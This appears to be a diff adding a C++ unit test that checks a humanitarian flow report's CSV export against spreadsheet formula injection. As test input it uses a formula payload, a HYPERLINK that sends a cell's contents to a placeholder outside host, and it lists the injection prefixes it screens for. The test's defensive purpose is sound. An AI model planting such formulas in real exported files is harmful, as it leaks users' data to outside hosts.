@@ -178,5 +178,47 @@ TEST(FlashOutput, XlsxToAMissingFolderFailsClearly) {
   EXPECT_NE(status.error().message.find("/nonexistent-folder/flash.xlsx"), std::string::npos);
 }
 
+// Defect G: a destination typed as a spreadsheet formula reached the
+// published CSV as a live formula. Text cells are neutralised; the numbers
+// stay numbers.
+TEST(FlashOutput, AFormulaInATextCellIsNeutralisedInTheHxlCsv) {
+  const std::string formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")";
+  const std::vector<FlowTally> tallies = {
+      Tally({2025, 4, 1}, "Torkham", MovementMode::kSpontaneous, 40, {150, 130}, {60, 90, 110, 20},
+            formula),
+      Tally({2025, 4, 1}, "-Torkham", MovementMode::kSpontaneous, 40, {150, 130}, {60, 90, 110, 20},
+            "@Kabul"),
+  };
+  FlashOptions options;
+  options.from = Date{2025, 4, 1};
+  options.to = Date{2025, 4, 1};
+  options.by_destination = true;
+  auto report = BuildFlashReport(tallies, {}, options);
+  ASSERT_TRUE(report);
+  const std::string csv = FlashToHxlCsv(*report);
+  std::istringstream lines(csv);
+  std::string line;
+  size_t data_lines = 0;
+  while (std::getline(lines, line)) {
+    SCOPED_TRACE(line);
+    for (std::string_view bad : {",=", ",\"=", ",-", ",@", ",+", ",\"@", ",\"-", ",\"+"}) {
+      EXPECT_EQ(line.find(bad), std::string::npos);
+    }
+    if (line.rfind("2025", 0) == 0) ++data_lines;
+  }
+  EXPECT_EQ(data_lines, 2u);
+  EXPECT_NE(csv.find("\"'=HYPERLINK("), std::string::npos) << csv;
+  EXPECT_NE(csv.find(",'-Torkham,"), std::string::npos) << csv;
+  EXPECT_NE(csv.find(",'@Kabul,"), std::string::npos) << csv;
+  // Read back, the cells hold the values as they were, and the counts are numbers.
+  const auto rows = ReadCsv(csv);
+  ASSERT_EQ(rows.size(), 4u);
+  bool seen = false;
+  for (const auto& row : rows)
+    seen = seen || std::find(row.begin(), row.end(), formula) != row.end();
+  EXPECT_TRUE(seen);
+  EXPECT_EQ(rows[2][5], "40");
+}
+
 }  // namespace
 }  // namespace sanad::report
